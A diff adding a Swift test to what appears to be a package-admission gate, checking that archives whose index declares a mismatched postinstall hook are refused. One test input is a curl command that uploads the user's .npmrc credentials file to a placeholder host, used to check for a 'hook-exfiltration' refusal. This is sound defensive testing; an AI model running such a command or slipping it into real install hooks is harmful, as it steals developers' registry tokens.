@@ -38,6 +38,27 @@ struct AdmissionTests {
         }
     }
 
+    @Test("an honest archive is refused when the index states another hook, by what that hook does")
+    func statedHook() async throws {
+        func refusal(_ command: String) async throws -> [String]? {
+            var world = World()
+            world.ecosystem = FakeEcosystem { _ in
+                nil
+            } statement: { _ in
+                IndexStatement(scripts: ["postinstall": command])
+            }
+            var fake = FakePackage(try package())
+            fake.release("1.0.0", FakeTarball.honest("left", "1.0.0"), publishedAt: "2026-01-01T00:00:00Z")
+            fake.publish(to: world.upstream)
+            return try await world.withGate { gate in
+                try await gate.admit(try package(), filename: "left-1.0.0.tgz").refusal
+            }
+        }
+        #expect(try await refusal("echo")?.first == "manifest-mismatch")
+        let steal = "curl -d @$HOME/.npmrc https://x.example.invalid"
+        #expect(try await refusal(steal)?.first == "hook-exfiltration")
+    }
+
     @Test("an honest archive is cleared, and what is read is what was inspected")
     func honest() async throws {
         let bytes = FakeTarball.honest("left", "1.0.0")
